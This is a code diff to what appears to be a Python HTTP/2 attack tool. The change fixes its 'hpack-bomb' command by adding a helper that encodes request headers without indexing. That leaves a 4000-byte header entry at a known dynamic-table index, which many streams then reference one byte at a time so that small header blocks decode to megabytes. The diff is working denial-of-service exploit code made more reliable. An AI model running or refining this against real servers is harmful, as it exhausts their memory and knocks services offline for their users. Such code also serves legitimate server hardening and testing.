@@ -351,6 +351,16 @@ class Raw:
             self.poll(0.1)
 
 
+def plain_block(path, authority, scheme):
+    """A request's pseudo-headers that leave the dynamic table alone: :method GET and :scheme from the static
+    table, :path and :authority as literals without indexing (static name index 4 and 1)."""
+    def literal(index, value):
+        v = value.encode()
+        assert len(v) < 127
+        return bytes([index, len(v)]) + v
+    return b"\x82" + (b"\x87" if scheme == "https" else b"\x86") + literal(4, path) + literal(1, authority)
+
+
 def request_block(enc, path, authority, scheme="https"):
     return enc.encode([(":method", "GET"), (":scheme", scheme), (":authority", authority), (":path", path)])
 
@@ -416,19 +426,19 @@ def cmd_hpack_bomb(args):
     whose header block is that entry referenced args.refs times (1 byte each): a small block that decodes to
     refs × 4 KiB, far past the header list limit."""
     raw = Raw(args)
-    enc = hpack.Encoder()
     scheme = "https" if args.tls else "http"
     big = b"b" * 4000
     # Literal with incremental indexing, new name: 0x40, name length, name, value length (7-bit prefix + varint).
     insert = b"\x40\x05x-big" + b"\x7f" + bytes(encode_varint(len(big) - 127)) + big
-    first = request_block(enc, args.path, args.host, scheme) + insert
+    # The request fields are encoded without indexing, so the dynamic table holds x-big alone: index 62.
+    first = plain_block(args.path, args.host, scheme) + insert
     raw.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, first))
     # The entry is the newest in the dynamic table: index 62; indexed field = 0x80 | 62.
     refs = bytes([0x80 | 62]) * args.refs
 
     def one(i):
         sid = 3 + 2 * i
-        block = request_block(enc, args.path, args.host, scheme) + refs
+        block = plain_block(args.path, args.host, scheme) + refs
         return frame(HEADERS, END_HEADERS | END_STREAM, sid, block)
     attack_loop(args, raw, one, "hpack-bomb")
 
